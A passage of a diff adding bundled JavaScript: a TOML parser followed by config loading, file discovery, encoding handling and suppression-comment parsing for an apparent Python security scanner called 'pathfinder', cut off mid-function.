+  ctx.p += 5;
+  if (!isDigit(ctx.s.charCodeAt(ctx.p++)))
+    TomlError.x("invalid date-time: date part is malformed", ctx, startPtr);
+  if (ctx.p >= ctx.s.length || ((c = ctx.s.charCodeAt(ctx.p)) !== 32 || (unsafeSeparator = true, !isDigit(ctx.s.charCodeAt(ctx.p + 1)))) && c !== 84 && c !== 116) {
+    let t2 = ctx.s.slice(startPtr, ctx.p);
+    return readDate(ctx, t2, 3, false, startPtr);
+  }
+  if (ctx.s.charCodeAt(ctx.p += 3) !== 58)
+    TomlError.x("invalid date-time: time part is malformed", ctx, startPtr);
+  if (ctx.s.charCodeAt(ctx.p += 3) === 58)
+    ctx.p += 3;
+  if (ctx.s.charCodeAt(ctx.p) === 46)
+    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+      ;
+  if (c = ctx.s.charCodeAt(ctx.p)) {
+    if (c === 90 || c === 122) {
+      let t2 = ctx.s.slice(startPtr, ++ctx.p);
+      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, "[+00:00]");
+    }
+    if (c === 43 || c === 45) {
+      let t2 = ctx.s.slice(startPtr, ctx.p += 6);
+      return readDate(ctx, t2, 1, unsafeSeparator, startPtr, !ctx.ld && "[" + ctx.s.slice(ctx.p - 6, ctx.p) + "]");
+    }
+  }
+  let t = ctx.s.slice(startPtr, ctx.p);
+  return readDate(ctx, t, 2, unsafeSeparator, startPtr);
+}
+function parseTime(ctx, c, endChr) {
+  let start2 = ctx.p;
+  if (!isDigit(c) || !isDigit(ctx.s.charCodeAt(++ctx.p))) {
+    return parseNumber(ctx, --ctx.p, c, 0, endChr);
+  }
+  if (ctx.s.charCodeAt(ctx.p += 4) === 58)
+    ctx.p += 3;
+  if (ctx.s.charCodeAt(ctx.p) === 46)
+    while (isDigit(ctx.s.charCodeAt(++ctx.p)))
+      ;
+  let t = ctx.s.slice(start2, ctx.p);
+  return readDate(ctx, t, 4, false, start2);
+}
+function readDate(ctx, str, type, unsafeDelim, errPtr, temporalSuffix) {
+  if (ctx.ld) {
+    let date = new TomlDate(str, type, unsafeDelim);
+    if (!date.isValid())
+      TomlError.x("invalid date", ctx, errPtr);
+    return date;
+  }
+  try {
+    if (temporalSuffix)
+      str += temporalSuffix;
+    switch (type) {
+      case 1:
+        return Temporal.ZonedDateTime.from(str);
+      case 2:
+        return Temporal.PlainDateTime.from(str);
+      case 3:
+        return Temporal.PlainDate.from(str);
+      case 4:
+        return Temporal.PlainTime.from(str);
+    }
+  } catch (e) {
+    TomlError.x(e instanceof Error ? e.message : "" + e, ctx, errPtr);
+  }
+}
+
+// node_modules/smol-toml/dist/util.js
+function skipComment(ctx) {
+  for (; ctx.p < ctx.s.length; ctx.p++) {
+    let c = ctx.s.charCodeAt(ctx.p);
+    if (c === 10)
+      break;
+    if (c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10) {
+      ctx.p++;
+      break;
+    }
+    if (c < 32 && c !== 9 || c === 127) {
+      TomlError.x("control characters are not allowed in comments", ctx);
+    }
+  }
+}
+function skipVoid(ctx, banNewLines, banComments) {
+  let c;
+  while (ctx.p < ctx.s.length) {
+    while (ctx.p < ctx.s.length && ((c = ctx.s.charCodeAt(ctx.p)) === 32 || c === 9 || !banNewLines && (c === 10 || c === 13 && ctx.s.charCodeAt(ctx.p + 1) === 10)))
+      ctx.p++;
+    if (banComments || c !== 35)
+      break;
+    skipComment(ctx);
+  }
+}
+
+// node_modules/smol-toml/dist/struct.js
+function parseKey(ctx, end = 61) {
+  let startPtr;
+  let state = 0;
+  let parsed = [];
+  let sliceStart;
+  let c = ctx.s.charCodeAt(startPtr = ctx.p);
+  do {
+    if (c === end) {
+      if (!state)
+        TomlError.x("unexpected end of key", ctx);
+      if (state === 1)
+        parsed.push(ctx.s.slice(sliceStart, ctx.p));
+      return ctx.p++, parsed;
+    } else if (c === 46) {
+      if (!state)
+        TomlError.x("illegal empty bare key", ctx);
+      if (state === 1)
+        parsed.push(ctx.s.slice(sliceStart, ctx.p));
+      state = 0;
+    } else if (!state && (c === 34 || c === 39)) {
+      if (c === ctx.s.charCodeAt(ctx.p + 1) && c === ctx.s.charCodeAt(ctx.p + 2))
+        TomlError.x("illegal quoted key: multiline strings are not allowed", ctx);
+      parsed.push(parseString(ctx));
+      state = 2;
+      ctx.p--;
+    } else if (c === 32 || c === 9) {
+      if (state === 1) {
+        parsed.push(ctx.s.slice(sliceStart, ctx.p));
+        state = 2;
+      }
+    } else if (state === 2 || c < 48 && c !== 45 || c > 57 && c < 65 || c > 90 && c < 97 && c !== 95 || c > 122) {
+      TomlError.x("illegal character in key", ctx);
+    } else if (!state) {
+      state = 1;
+      sliceStart = ctx.p;
+    }
+  } while (c = ctx.s.charCodeAt(++ctx.p));
+  TomlError.x("incomplete key-value: cannot find end of key", ctx, startPtr);
+}
+function parseInlineTable(ctx) {
+  let startPtr = ctx.p++;
+  let res = /* @__PURE__ */ Object.create(null);
+  let seen = /* @__PURE__ */ new Set();
+  let c;
+  while (ctx.p < ctx.s.length) {
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p)) === 125) {
+      ctx.p++;
+      return res;
+    }
+    let k;
+    let t = res;
+    let hasOwn = false;
+    let errPtr = ctx.p;
+    let key = parseKey(ctx);
+    for (let i2 = 0; i2 < key.length; i2++) {
+      if (i2)
+        t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
+      k = key[i2];
+      if ((hasOwn = Object.hasOwn(t, k)) && (typeof t[k] !== "object" || seen.has(t[k]))) {
+        TomlError.x("trying to redefine an already defined value", ctx, errPtr);
+      }
+      let unsafe = k === "__proto__";
+      if (ctx.uk && (unsafe || k === "constructor")) {
+        t = ctx.uk !== 1 && TomlError.x("document contains an unsafe property", ctx, errPtr);
+        break;
+      }
+      if (!hasOwn && unsafe) {
+        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+      }
+    }
+    if (hasOwn) {
+      TomlError.x("trying to redefine an already defined value", ctx, errPtr);
+    }
+    skipVoid(ctx, true, true);
+    let value = extractValue2(
+      ctx,
+      125
+      /* } */
+    );
+    if (t && typeof (t[k] = value) === "object")
+      seen.add(value);
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p++)) === 125) {
+      return res;
+    }
+    if (c !== 44)
+      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
+  }
+  TomlError.x("unfinished table", ctx, startPtr);
+}
+function parseArray(ctx) {
+  let startPtr = ctx.p++;
+  let res = [];
+  let c;
+  while (ctx.p < ctx.s.length) {
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p)) === 93) {
+      ctx.p++;
+      return res;
+    }
+    res.push(extractValue2(
+      ctx,
+      93
+      /* ] */
+    ));
+    skipVoid(ctx);
+    if ((c = ctx.s.charCodeAt(ctx.p++)) === 93) {
+      return res;
+    }
+    if (c !== 44)
+      TomlError.x("expected comma or end of structure", ctx, ctx.p - 1);
+  }
+  TomlError.x("unfinished array", ctx, startPtr);
+}
+
+// node_modules/smol-toml/dist/parse.js
+function peekTable(ctx, key, table, meta, type) {
+  let t = table;
+  let m = meta;
+  let k;
+  let hasOwn = false;
+  let state;
+  for (let i2 = 0; i2 < key.length; i2++) {
+    if (i2) {
+      t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
+      m = (state = m[k]).c;
+      if (type === 0 && (state.t === 1 || state.t === 2)) {
+        return null;
+      }
+      if (state.t === 2) {
+        let l = t.length - 1;
+        t = t[l];
+        m = m[l].c;
+      }
+    }
+    k = key[i2];
+    if ((hasOwn = Object.hasOwn(t, k)) && m[k]?.t === 0 && m[k]?.d) {
+      return null;
+    }
+    if (!hasOwn) {
+      let unsafe = k === "__proto__";
+      if (ctx.uk && (unsafe || k === "constructor"))
+        return false;
+      if (unsafe) {
+        Object.defineProperty(t, k, { enumerable: true, configurable: true, writable: true });
+        Object.defineProperty(m, k, { enumerable: true, configurable: true, writable: true });
+      }
+      m[k] = {
+        t: i2 < key.length - 1 && type === 2 ? 3 : type,
+        d: false,
+        i: 0,
+        c: /* @__PURE__ */ Object.create(null)
+      };
+    }
+  }
+  state = m[k];
+  if (state.t !== type && !(type === 1 && state.t === 3)) {
+    return null;
+  }
+  if (type === 2) {
+    if (!state.d) {
+      state.d = true;
+      t[k] = [];
+    }
+    t[k].push(t = /* @__PURE__ */ Object.create(null));
+    state.c[state.i++] = state = { t: 1, d: false, i: 0, c: /* @__PURE__ */ Object.create(null) };
+  }
+  if (state.d) {
+    return null;
+  }
+  state.d = true;
+  if (type === 1) {
+    t = hasOwn ? t[k] : t[k] = /* @__PURE__ */ Object.create(null);
+  } else if (type === 0 && hasOwn) {
+    return null;
+  }
+  return [k, t, state.c];
+}
+function validateTablePeek(ctx, peek2, ptr) {
+  if (peek2 === null || ctx.uk === 2)
+    TomlError.x(peek2 === null ? "trying to redefine an already defined table or value" : "document contains an unsafe property", ctx, ptr);
+}
+function parse(toml, options = {}) {
+  let ctx = {
+    s: toml,
+    p: 0,
+    d: options.maxDepth ?? 1e3,
+    bi: options.integersAsBigInt ?? false,
+    ld: options.useLegacyDate ?? true,
+    uk: options.unsafeKeyBehaviour === "throw" ? 2 : options.unsafeKeyBehaviour === "drop" ? 1 : 0
+  };
+  let res = /* @__PURE__ */ Object.create(null);
+  let meta = /* @__PURE__ */ Object.create(null);
+  let tmp;
+  let skipping = false;
+  let tbl = res;
+  let m = meta;
+  if (toml.charCodeAt(0) === 65279)
+    ctx.p++;
+  skipVoid(ctx);
+  while (ctx.p < toml.length) {
+    if (toml.charCodeAt(ctx.p) === 91) {
+      let isTableArray = toml.charCodeAt(++ctx.p) === 91;
+      tmp = ctx.p += +isTableArray;
+      skipping = false;
+      let k = parseKey(
+        ctx,
+        93
+        /* ] */
+      );
+      if (isTableArray) {
+        if (toml.charCodeAt(ctx.p) !== 93) {
+          TomlError.x("expected end of table array declaration", ctx);
+        }
+        ctx.p++;
+      }
+      let p = peekTable(
+        ctx,
+        k,
+        res,
+        meta,
+        isTableArray ? 2 : 1
+        /* Type.EXPLICIT */
+      );
+      if (!p) {
+        validateTablePeek(ctx, p, tmp);
+        skipping = true;
+      } else {
+        m = p[2];
+        tbl = p[1];
+      }
+    } else {
+      tmp = ctx.p;
+      let k = parseKey(ctx);
+      let p = peekTable(
+        ctx,
+        k,
+        tbl,
+        m,
+        0
+        /* Type.DOTTED */
+      );
+      if (!p && !skipping)
+        validateTablePeek(ctx, p, tmp);
+      skipVoid(ctx, true, true);
+      let v = extractValue2(ctx, void 0);
+      if (p && !skipping)
+        p[1][p[0]] = v;
+    }
+    skipVoid(ctx, true);
+    if (ctx.p < toml.length && (tmp = toml.charCodeAt(ctx.p)) !== 10 && (tmp !== 13 || toml.charCodeAt(ctx.p + 1) !== 10)) {
+      TomlError.x("each key-value declaration must be followed by an end-of-line", ctx);
+    }
+    skipVoid(ctx);
+  }
+  return res;
+}
+
+// node_modules/smol-toml/dist/stringify.js
+var HAS_WELLFORMED = !!"".isWellFormed;
+
+// src/core/types.ts
+var SEVERITIES = ["critical", "high", "medium", "low"];
+
+// src/core/severity.ts
+function severityRank(s) {
+  return SEVERITIES.length - SEVERITIES.indexOf(s);
+}
+function isSeverity(s) {
+  return SEVERITIES.includes(s);
+}
+function atLeast(s, threshold) {
+  return severityRank(s) >= severityRank(threshold);
+}
+
+// src/project/errors.ts
+var UsageError = class extends Error {
+};
+
+// src/project/config.ts
+var ConfigError = class extends UsageError {
+};
+var CONFIG_FILE_NAMES = ["pathfinder.toml", ".pathfinder.toml"];
+var PYPROJECT = "pyproject.toml";
+var MAX_CONFIG_BYTES = 1024 * 1024;
+var TOP_LEVEL_KEYS = ["exclude", "disable", "rules"];
+var RULE_KEYS = ["extra-sinks", "severity"];
+var QUALIFIED_NAME = /^[A-Za-z_][A-Za-z0-9_]*(\.[A-Za-z_][A-Za-z0-9_]*)+$/;
+function loadConfig(lookup) {
+  if (lookup.disabled) return void 0;
+  if (lookup.explicit !== void 0) {
+    const file = resolve2(lookup.cwd, lookup.explicit);
+    const text = readConfigText(file);
+    if (basename(file) === PYPROJECT) {
+      const config = fromPyproject(text, file);
+      if (!config) throw new ConfigError(`configuration ${file} has no [tool.pathfinder] table`);
+      return config;
+    }
+    return parseConfig(text, file);
+  }
+  return discoverConfig(resolve2(lookup.cwd, lookup.project));
+}
+function discoverConfig(project) {
+  let dir = isDirectory(project) ? project : dirname(project);
+  for (; ; ) {
+    for (const name2 of CONFIG_FILE_NAMES) {
+      const file = join2(dir, name2);
+      if (isFile(file)) return parseConfig(readConfigText(file), file);
+    }
+    const pyproject = join2(dir, PYPROJECT);
+    if (isFile(pyproject)) {
+      const text = readConfigText(pyproject);
+      if (text.includes("pathfinder")) {
+        const config = fromPyproject(text, pyproject);
+        if (config) return config;
+      }
+    }
+    const parent = dirname(dir);
+    if (parent === dir) return void 0;
+    dir = parent;
+  }
+}
+function parseConfig(text, file) {
+  return validate(parseToml(text, file), file, "");
+}
+function fromPyproject(text, file) {
+  const doc = parseToml(text, file);
+  const tool = doc.tool;
+  if (!isTable(tool) || tool.pathfinder === void 0) return void 0;
+  if (!isTable(tool.pathfinder)) throw invalid(file, "tool.pathfinder", "must be a table");
+  return validate(tool.pathfinder, file, "tool.pathfinder.");
+}
+function parseToml(text, file) {
+  try {
+    return parse(text);
+  } catch (e) {
+    if (e instanceof TomlError) {
+      const reason2 = e.message.split("\n")[0].replace(/^Invalid TOML document:\s*/, "");
+      throw new ConfigError(`invalid configuration ${file}:${e.line}:${e.column}: TOML syntax error: ${reason2}`);
+    }
+    throw new ConfigError(`invalid configuration ${file}: ${e.message}`);
+  }
+}
+function validate(table, file, prefix) {
+  const config = { file, baseDir: dirname(file), exclude: [], disable: [], rules: {} };
+  for (const [key, value] of Object.entries(table)) {
+    const path = prefix + key;
+    switch (key) {
+      case "exclude":
+        config.exclude = stringList(value, file, path).map((pattern, i2) => {
+          if (!pattern.trim()) throw invalid(file, `${path}[${i2}]`, "empty pattern");
+          return pattern;
+        });
+        break;
+      case "disable":
+        config.disable = stringList(value, file, path).map((id, i2) => ruleId(id, file, `${path}[${i2}]`));
+        break;
+      case "rules":
+        if (!isTable(value)) throw invalid(file, path, `must be a table of rule IDs, e.g. [${prefix}rules.PYTHON-LANG-SEC-040]`);
+        for (const [id, settings] of Object.entries(value)) {
+          const canonical = ruleId(id, file, `${path}.${id}`);
+          config.rules[canonical] = ruleSettings(settings, file, `${path}.${id}`, isArtifactRule(canonical));
+        }
+        break;
+      default:
+        throw invalid(file, path, unknownKey(key, TOP_LEVEL_KEYS));
+    }
+  }
+  return config;
+}
+function ruleSettings(value, file, path, artifactRule2) {
+  if (!isTable(value)) throw invalid(file, path, `must be a table (keys: ${RULE_KEYS.join(", ")})`);
+  const out2 = {};
+  for (const [key, v] of Object.entries(value)) {
+    const keyPath = `${path}.${key}`;
+    if (key === "extra-sinks") {
+      if (artifactRule2) throw invalid(file, keyPath, "extra sinks apply to Python rules only; artifact rules have no sinks");
+      out2.extraSinks = stringList(v, file, keyPath).map((name2, i2) => {
+        if (!QUALIFIED_NAME.test(name2)) {
+          throw invalid(file, `${keyPath}[${i2}]`, `"${name2}" is not a dotted qualified name such as "myapp.cache.load_blob"`);
+        }
+        return name2;
+      });
+    } else if (key === "severity") {
+      if (typeof v !== "string") throw invalid(file, keyPath, `must be a string (${SEVERITIES.join(", ")}), not ${typeName(v)}`);
+      const severity = v.toLowerCase();
+      if (!isSeverity(severity)) throw invalid(file, keyPath, `unknown severity "${v}" (use ${SEVERITIES.join(", ")})`);
+      out2.severity = severity;
+    } else {
+      throw invalid(file, keyPath, unknownKey(key, RULE_KEYS));
+    }
+  }
+  return out2;
+}
+function knownRuleIds() {
+  return [...PYTHON_RULES, ...ARTIFACT_RULES].map((r) => r.id);
+}
+function isArtifactRule(id) {
+  return ARTIFACT_RULES.some((r) => r.id === id);
+}
+function ruleId(id, file, path) {
+  const bare = id.replace(/^(python|artifact)\//i, "");
+  const known = knownRuleIds().find((k) => k.toUpperCase() === bare.toUpperCase());
+  if (known) return known;
+  const suggestion = closest(bare, knownRuleIds());
+  throw invalid(file, path, `unknown rule ID "${id}"${suggestion ? `; did you mean "${suggestion}"?` : ""} (see: pathfinder rules list)`);
+}
+function stringList(value, file, path) {
+  if (!Array.isArray(value)) throw invalid(file, path, `must be an array of strings, not ${typeName(value)}`);
+  value.forEach((item, i2) => {
+    if (typeof item !== "string") throw invalid(file, `${path}[${i2}]`, `must be a string, not ${typeName(item)}`);
+  });
+  return value;
+}
+function unknownKey(key, known) {
+  const suggestion = closest(key, known);
+  return `unknown key${suggestion ? `; did you mean "${suggestion}"?` : ""} (known keys: ${known.join(", ")})`;
+}
+function invalid(file, key, reason2) {
+  return new ConfigError(`invalid configuration ${file}: ${key}: ${reason2}`);
+}
+function typeName(v) {
+  if (Array.isArray(v)) return "an array";
+  if (isTable(v)) return "a table";
+  if (typeof v === "string") return "a string";
+  if (typeof v === "number" || typeof v === "bigint") return "a number";
+  if (typeof v === "boolean") return "a boolean";
+  return "a date";
+}
+function isTable(v) {
+  return typeof v === "object" && v !== null && !Array.isArray(v) && !(v instanceof Date);
+}
+function readConfigText(file) {
+  let size;
+  try {
+    size = statSync(file).size;
+  } catch (e) {
+    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
+  }
+  if (size > MAX_CONFIG_BYTES) throw new ConfigError(`configuration file ${file} is over ${MAX_CONFIG_BYTES / 1024} KB; refusing to read it`);
+  try {
+    return readFileSync(file, "utf8").replace(/^\uFEFF/, "");
+  } catch (e) {
+    throw new ConfigError(`cannot read configuration file ${file}: ${e.code ?? e.message}`);
+  }
+}
+function isFile(path) {
+  try {
+    return statSync(path).isFile();
+  } catch {
+    return false;
+  }
+}
+function isDirectory(path) {
+  try {
+    return statSync(path).isDirectory();
+  } catch {
+    return false;
+  }
+}
+function configExcluder(config) {
+  if (!config?.exclude.length) return () => false;
+  const names = config.exclude.filter((p) => !p.includes("/"));
+  const paths = config.exclude.filter((p) => p.includes("/"));
+  const matchesName = names.length ? (0, import_picomatch.default)(names, { dot: true }) : () => false;
+  const matchesPath = paths.length ? (0, import_picomatch.default)(paths, { dot: true }) : () => false;
+  return (absPath) => {
+    const native = relative(config.baseDir, absPath);
+    if (!native || isAbsolute(native) || native === ".." || native.startsWith(".." + sep)) return false;
+    const parts2 = native.split(sep);
+    for (let i2 = 1; i2 <= parts2.length; i2++) {
+      const path = parts2.slice(0, i2).join("/");
+      if (matchesName(parts2[i2 - 1]) || matchesPath(path) || i2 < parts2.length && matchesPath(path + "/")) return true;
+    }
+    return false;
+  };
+}
+function prunableExcludes(config) {
+  return config?.exclude.filter((p) => !p.includes("/")) ?? [];
+}
+
+// src/project/discover.ts
+var import_ignore = __toESM(require_ignore(), 1);
+var import_picomatch2 = __toESM(require_picomatch2(), 1);
+import { closeSync as closeSync3, lstatSync, openSync as openSync3, readdirSync, readFileSync as readFileSync2, readSync as readSync3, realpathSync, statSync as statSync2 } from "node:fs";
+import { basename as basename2, join as join3, relative as relative2, resolve as resolve3, sep as sep2 } from "node:path";
+var DEFAULT_EXCLUDED_DIRS = /* @__PURE__ */ new Set([
+  ".git",
+  ".hg",
+  ".svn",
+  "node_modules",
+  "__pycache__",
+  ".venv",
+  "venv",
+  ".env",
+  "env",
+  ".tox",
+  ".nox",
+  "site-packages",
+  "dist-packages",
+  ".mypy_cache",
+  ".pytest_cache",
+  ".ruff_cache",
+  ".eggs",
+  "build",
+  "dist",
+  ".idea",
+  ".vscode",
+  ".pathfinder-cache"
+]);
+var PYTHON_EXTENSIONS = [".py", ".pyw"];
+var TEST_FILE = /(^|\/)(test_[^/]*\.py|[^/]*_test\.py|conftest\.py)$/;
+var TEST_DIR = /(^|\/)(tests?|testing)(\/|$)/;
+async function discover(root, options) {
+  const absRoot = resolve3(root);
+  const files = [];
+  const errors = [];
+  const isIncluded = options.include.length ? (0, import_picomatch2.default)(options.include, { dot: true }) : () => true;
+  const isExcluded = options.exclude.length ? (0, import_picomatch2.default)(options.exclude, { dot: true }) : () => false;
+  const bareNames = options.exclude.filter((p) => !p.replace(/\/+$/, "").includes("/"));
+  const isExcludedName = bareNames.length ? (0, import_picomatch2.default)(bareNames, { dot: true }) : () => false;
+  const excludedPath = (rel) => isExcluded(rel) || isExcludedName(basename2(rel));
+  const rootStat = statSync2(absRoot);
+  if (!rootStat.isDirectory()) {
+    const rel = basename2(absRoot);
+    files.push({ absPath: absRoot, relPath: rel, size: rootStat.size, kind: classify2(absRoot, rel) });
+    return { files, errors };
+  }
+  const stack = [{ dir: absRoot, ignores: [], ancestors: /* @__PURE__ */ new Set() }];
+  while (stack.length) {
+    const { dir, ignores: inherited, ancestors } = stack.pop();
+    let real;
+    try {
+      real = realpathSync(dir);
+    } catch (e) {
+      errors.push(problem(absRoot, dir, "unreadable", `cannot resolve directory: ${reason(e)}`));
+      continue;
+    }
+    if (ancestors.has(real)) {
+      errors.push(problem(absRoot, dir, "symlink-loop", "symbolic link loop: directory links back to one of its parents; skipped"));
+      continue;
+    }
+    const lineage = new Set(ancestors).add(real);
+    let entries;
+    try {
+      entries = readdirSync(dir, { withFileTypes: true });
+    } catch (e) {
+      errors.push(problem(absRoot, dir, "unreadable", `cannot read directory: ${reason(e)}`));
+      continue;
+    }
+    const ignores = options.gitignore ? withGitignore(dir, inherited) : inherited;
+    entries.sort((a, b) => a.name < b.name ? -1 : a.name > b.name ? 1 : 0);
+    for (const entry of entries) {
+      const abs = join3(dir, entry.name);
+      const rel = toPosix(relative2(absRoot, abs));
+      let isDir = entry.isDirectory();
+      let isFile2 = entry.isFile();
+      let size = 0;
+      if (entry.isSymbolicLink()) {
+        try {
+          const target = statSync2(abs);
+          isDir = target.isDirectory();
+          isFile2 = target.isFile();
+          size = target.size;
+        } catch (e) {
+          const loop = e.code === "ELOOP";
+          errors.push(problem(absRoot, abs, loop ? "symlink-loop" : "unreadable", loop ? "symbolic link loop; skipped" : `broken symbolic link: ${reason(e)}`));
+          continue;
+        }
+      }
+      if (isDir) {
+        if (DEFAULT_EXCLUDED_DIRS.has(entry.name) || excludedPath(rel) || excludedPath(rel + "/")) continue;
+        if (isIgnored(ignores, abs, true)) continue;
+        if (options.skipTests && TEST_DIR.test(rel)) continue;
+        stack.push({ dir: abs, ignores, ancestors: lineage });
+      } else if (isFile2) {
+        if (excludedPath(rel) || !isIncluded(rel) || isIgnored(ignores, abs, false)) continue;
+        if (options.skipTests && (TEST_FILE.test(rel) || TEST_DIR.test(rel))) continue;
+        if (!size) {
+          try {
+            size = lstatSync(abs).size;
+          } catch (e) {
+            errors.push(problem(absRoot, abs, "unreadable", `cannot stat file: ${reason(e)}`));
+            continue;
+          }
+        }
+        files.push({ absPath: abs, relPath: rel, size, kind: classify2(abs, rel) });
+      }
+    }
+  }
+  files.sort((a, b) => a.relPath < b.relPath ? -1 : a.relPath > b.relPath ? 1 : 0);
+  return { files, errors };
+}
+function classify2(abs, rel) {
+  const lower = rel.toLowerCase();
+  if (PYTHON_EXTENSIONS.some((e) => lower.endsWith(e))) return "python";
+  if (basename2(rel).includes(".")) return "other";
+  try {
+    const head = readFileHead(abs, 128).toString("latin1");
+    if (/^#!.*\bpython[0-9.]*\b/.test(head)) return "python";
+  } catch {
+  }
+  return "other";
+}
+function readFileHead(abs, bytes) {
+  const fd = openSync3(abs, "r");
+  try {
+    const buf = Buffer.alloc(bytes);
+    return buf.subarray(0, readSync3(fd, buf, 0, bytes, 0));
+  } finally {
+    closeSync3(fd);
+  }
+}
+function withGitignore(dir, inherited) {
+  let text;
+  try {
+    text = readFileSync2(join3(dir, ".gitignore"), "utf8");
+  } catch {
+    return inherited;
+  }
+  return [...inherited, { base: dir, rules: (0, import_ignore.default)().add(text) }];
+}
+function isIgnored(ignores, abs, isDir) {
+  for (const { base, rules } of ignores) {
+    const rel = toPosix(relative2(base, abs));
+    if (!rel || rel.startsWith("..")) continue;
+    if (rules.ignores(isDir ? rel + "/" : rel)) return true;
+  }
+  return false;
+}
+function problem(root, abs, kind, message15) {
+  return { file: toPosix(relative2(root, abs)) || ".", kind, level: "warning", message: message15 };
+}
+function reason(e) {
+  const err2 = e;
+  return err2.code ? `${err2.code} ${err2.message.replace(/^[A-Z]+: /, "")}` : String(e);
+}
+function toPosix(p) {
+  return sep2 === "/" ? p : p.split(sep2).join("/");
+}
+
+// src/project/module-name.ts
+function moduleNameOf(relPath) {
+  const parts2 = relPath.replace(/\.pyw?$/i, "").split("/");
+  let start2 = 0;
+  for (let i2 = parts2.length - 1; i2 >= 0; i2--) {
+    if (!/^[A-Za-z_][A-Za-z0-9_]*$/.test(parts2[i2])) {
+      start2 = i2 + 1;
+      break;
+    }
+  }
+  return parts2.slice(start2).join(".");
+}
+
+// src/project/read-source.ts
+var CODING_COOKIE = /^[ \t\f]*#.*?coding[:=][ \t]*([-\w.]+)/;
+function decodePython(bytes, relPath, maxBytes) {
+  if (bytes.length > maxBytes) return { ok: false, error: tooLarge(relPath, bytes.length, maxBytes) };
+  if (looksBinary(bytes)) {
+    return { ok: false, error: warn(relPath, "binary", "binary content (NUL bytes) in a Python file; skipped") };
+  }
+  const decoder = declaredDecoder(bytes);
+  if (decoder) return { ok: true, source: decoder.decode(bytes) };
+  try {
+    return { ok: true, source: new TextDecoder("utf-8", { fatal: true }).decode(bytes) };
+  } catch {
+    return {
+      ok: true,
+      source: new TextDecoder("utf-8").decode(bytes),
+      warning: warn(relPath, "encoding", "file is not valid UTF-8; invalid bytes were replaced and the rest was scanned")
+    };
+  }
+}
+function declaredDecoder(bytes) {
+  const encoding = declaredEncoding(bytes);
+  return encoding && !/^utf[-_]?8([-_]sig)?$/i.test(encoding) ? decoderFor(encoding) : void 0;
+}
+function decoderFor(codec) {
+  for (const label of [codec, codec.replace(/_/g, "-"), codec.replace(/[-_]/g, "")]) {
+    try {
+      return new TextDecoder(label);
+    } catch {
+    }
+  }
+  return void 0;
+}
+function looksBinary(bytes) {
+  const n = Math.min(bytes.length, 8192);
+  for (let i2 = 0; i2 < n; i2++) if (bytes[i2] === 0) return true;
+  return false;
+}
+function declaredEncoding(bytes) {
+  const head = new TextDecoder("latin1").decode(bytes.subarray(0, 400)).split(/\r?\n/, 2);
+  for (const line of head) {
+    const m = CODING_COOKIE.exec(line);
+    if (m) return m[1];
+    if (!/^[ \t\f]*(#.*)?$/.test(line)) break;
+  }
+  return void 0;
+}
+function tooLarge(relPath, size, maxBytes) {
+  return warn(relPath, "too-large", `file is ${formatBytes(size)}, over the ${formatBytes(maxBytes)} limit (--max-file-size); skipped`);
+}
+function warn(file, kind, message15) {
+  return { file, kind, level: "warning", message: message15 };
+}
+function formatBytes(n) {
+  if (n >= 1024 * 1024) return `${(n / (1024 * 1024)).toFixed(1)} MB`;
+  if (n >= 1024) return `${(n / 1024).toFixed(1)} KB`;
+  return `${n} B`;
+}
+
+// src/project/worker-pool.ts
+import { Worker } from "node:worker_threads";
+
+// src/core/suppression.ts
+var PATHFINDER = /pathfinder\s*:\s*ignore(?:\s*\[([^\]]*)\])?/i;
+var NOSEC = /\bnosec\b(?:\s*:?\s*((?:[A-Z]+[0-9A-Z-]*\d)(?:\s*,\s*[A-Z]+[0-9A-Z-]*\d)*))?/;
+function parseSuppression(comment) {
+  const p = PATHFINDER.exec(comment);
+  if (p) return { kind: "pathfinder", ids: splitIds(p[1]), text: comment.trim() };
+  const n = NOSEC.exec(comment);
+  if (n) return { kind: "nosec", ids: splitIds(n[1]), text: comment.trim() };
+  return void 0;
+}
+function suppresses(directive, ruleId2, banditIds) {
+  const hit = directive.ids.length === 0 || directive.ids.some((id) => id.toUpperCase() === ruleId2.toUpperCase() || banditIds.includes(id.toUpperCase()));
+  return hit ? { kind: directive.kind, justification: directive.text } : void 0;
+}
+function splitIds(list) {
+  return list ? list.split(",").map((s) => s.trim()).filter(Boolean) : [];
+}
+
+// src/languages/python/top-level.ts
+function identifierKey(name2) {
+  return hashRange(name2, 0, name2.length);
+}
+function hashRange(text, start2, end) {
+  let h = 2166136261;
+  for (let i2 = start2; i2 < end; i2++) h = Math.imul(h ^ text.charCodeAt(i2), 16777619);
+  return h & 1073741823;
+}
+var NEWLINE = 10;
+var CR = 13;
+var SPACE = 32;
+var TAB = 9;
+var FORM_FEED = 12;
+var HASH = 35;
+var BACKSLASH = 92;
+var DOT = 46;
+var AT = 64;
+var SINGLE_QUOTE = 39;
+var DOUBLE_QUOTE = 34;
+function splitTopLevel(source) {
+  if (hasBareCarriageReturn(source)) return void 0;
+  return splitBlock(source, 0, source.length, "");
+}
+function splitClassBody(source, cls) {
+  if (cls.bodyStart === void 0) return void 0;
+  for (let pos = cls.bodyStart; pos < cls.end; ) {
+    const j = skipSpaces(source, pos);
+    const first = source.charCodeAt(j);
+    if (first === NEWLINE || first === CR || first === HASH) {
+      const nl = source.indexOf("\n", j);
+      pos = nl < 0 ? cls.end : nl + 1;
+      continue;
+    }
+    return j > pos ? splitBlock(source, pos, cls.end, source.slice(pos, j)) : void 0;
+  }
+  return void 0;
+}
+function splitBlock(source, from, to, indent) {
+  const segments = [];
+  let current;
+  let decoratorPending = false;
+  let nestedDefinitionStart = -1;
+  let nestedDefinitionIndent = 0;
+  let pos = from;
+  while (pos < to) {
+    const j = skipSpaces(source, pos);
+    if (j >= to) break;
+    const first = source.charCodeAt(j);
+    if (first === NEWLINE || first === CR || first === HASH) {
+      const nl = source.indexOf("\n", j);
+      if (first === HASH) current?.prose.push(j, nl < 0 ? to : nl);
+      pos = nl < 0 ? to : nl + 1;
+      continue;
+    }
